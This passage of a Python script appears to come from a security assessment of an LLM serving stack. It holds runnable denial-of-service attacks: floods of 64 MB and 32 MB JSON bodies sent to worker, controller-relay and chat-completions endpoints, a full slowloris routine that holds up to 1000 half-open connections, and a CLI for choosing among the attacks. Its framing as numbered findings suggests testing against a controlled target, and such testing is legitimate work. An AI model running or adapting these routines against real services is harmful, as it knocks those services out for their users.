    ready()
    with attacker_client(300) as client, ThreadPoolExecutor(4) as pool:
        token, anyone = _poster(client, t.token_header), _poster(client, {})
        key = _poster(client, t.key_header)
        for _ in _rounds(seconds, 10.0):
            for name, url in (
                ("worker /worker_generate", t.worker + "/worker_generate"),
                ("controller relay", t.controller + "/worker_generate_stream"),
            ):
                sends.send(f"{name} 64 MB of {{}} without the token", anyone, url, plain)
                sends.send(f"{name} 64 MB of {{}} with the token", token, url, plain)
                sends.send(
                    f"{name} 64 MB of {{}} + images: [] with the token", token, url, pictures
                )
                sends.send(
                    f"{name} images: [] + 64 MB of {{}} with the token",
                    token,
                    url,
                    pictures_first,
                )
            for variant, body in chat_bodies.items():
                what = f"API /v1/chat/completions 32 MB of {{}}{variant} (4 at once)"
                four = [
                    pool.submit(sends.send, what, key, t.api + "/v1/chat/completions", body)
                    for _ in range(4)
                ]
                for future in four:
                    future.result()
    return sends.summary()


async def _slowloris(url: str, connections: int, seconds: float, every_s: float) -> dict[str, Any]:
    """`connections` connections, each trickling one more header line every `every_s` and
    never ending its request head; one the server closes is replaced (after 0.1 s), as a
    slowloris keeps its count."""
    host, port = urlsplit(url).hostname or "127.0.0.1", urlsplit(url).port or 80
    loop = asyncio.get_running_loop()
    deadline = loop.time() + seconds
    head = (
        b"POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1\r\n"
        b"Content-Type: application/json\r\n"
    )
    answers: Counter[str] = Counter()
    lifetimes: list[float] = []
    state = {"opened": 0, "open": 0, "peak_open": 0}

    async def until_answered(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> str:
        while (remaining := deadline - loop.time()) > 0:
            try:
                data = await asyncio.wait_for(reader.read(512), min(every_s, remaining))
            except asyncio.TimeoutError:
                try:
                    writer.write(b"X-Trickle: 1\r\n")
                    await writer.drain()
                except OSError as exc:
                    return f"{type(exc).__name__} while trickling"
                continue
            except OSError as exc:
                return type(exc).__name__
            if not data:
                return "closed without an answer"
            return data.split(b"\r\n", 1)[0].decode(errors="replace")
        return ""

    async def one() -> None:
        while loop.time() < deadline:
            try:
                reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), 10)
            except (OSError, asyncio.TimeoutError) as exc:
                answers[f"connect failed: {type(exc).__name__}"] += 1
                await asyncio.sleep(0.5)
                continue
            born = loop.time()
            state["opened"] += 1
            state["open"] += 1
            state["peak_open"] = max(state["peak_open"], state["open"])
            try:
                writer.write(head)
                answer = await until_answered(reader, writer)
            finally:
                state["open"] -= 1
                writer.close()
            if not answer:
                answers["still open at the end"] += 1
                return
            answers[answer] += 1
            lifetimes.append(loop.time() - born)
            await asyncio.sleep(0.1)

    await asyncio.gather(*(one() for _ in range(connections)))
    return {
        "connections": connections,
        "seconds": seconds,
        "opened": state["opened"],
        "peak_open": state["peak_open"],
        "answers": dict(answers.most_common()),
        "closed_after_s": {
            "p50": round(percentile(lifetimes, 0.5), 2),
            "max": round(percentile(lifetimes, 1.0), 2),
        },
    }


def slow_headers(
    t: Target, seconds: float, ready: Callable[[], None], service: str, connections: int
) -> dict[str, Any]:
    """Finding 8: connections that trickle their request heads, against one service."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    with contextlib.suppress(ValueError, OSError):
        resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, connections + 256)), hard))
    url = {"api": t.api, "worker": t.worker, "controller": t.controller}[service]
    ready()
    return asyncio.run(_slowloris(url, connections, seconds, every_s=2.0))


def busy_process(t: Target, seconds: float, ready: Callable[[], None]) -> dict[str, Any]:
    """The control: no request at all, one process keeping one core busy for `seconds`. On a
    2-core host the worker's two compute threads then share a core with it, and each of the
    hundreds of thread barriers in a token waits for the one that lost its core: what any
    burst of CPU on the host (an attacker's own, a build, a login) costs users, whatever the
    service does."""
    ready()
    started = time.monotonic()
    spins = 0
    while time.monotonic() - started < seconds:
        spins += 1
    return {"busy_s": round(time.monotonic() - started, 2), "spins": spins}


def main() -> None:
    parser = argparse.ArgumentParser(description="one attack; prints a JSON record")
    parser.add_argument(
        "attack",
        choices=[
            "empty_prompt",
            "relay_poison",
            "huge_prompt",
            "json_expansion",
            "slow_headers",
            "busy_process",
        ],
    )
    parser.add_argument("--seconds", type=float, default=20.0)
    parser.add_argument("--service", default="api", choices=["api", "worker", "controller"])
    parser.add_argument("--connections", type=int, default=1000)
    args = parser.parse_args()
    t = Target.from_env()
    started = time.monotonic()

    def ready() -> None:
        """Payloads built: say so, and wait for the window to open (run_attacker)."""
        nonlocal started
        print(READY, flush=True)
        if sys.stdin.readline().strip() != GO:
            sys.exit("not told to go")
        started = time.monotonic()

    if args.attack == "slow_headers":
        got = slow_headers(t, args.seconds, ready, args.service, args.connections)
    else:
        got = globals()[args.attack](t, args.seconds, ready)
    got["attack_s"] = round(time.monotonic() - started, 1)
    print(json.dumps(got))


if __name__ == "__main__":
    main()
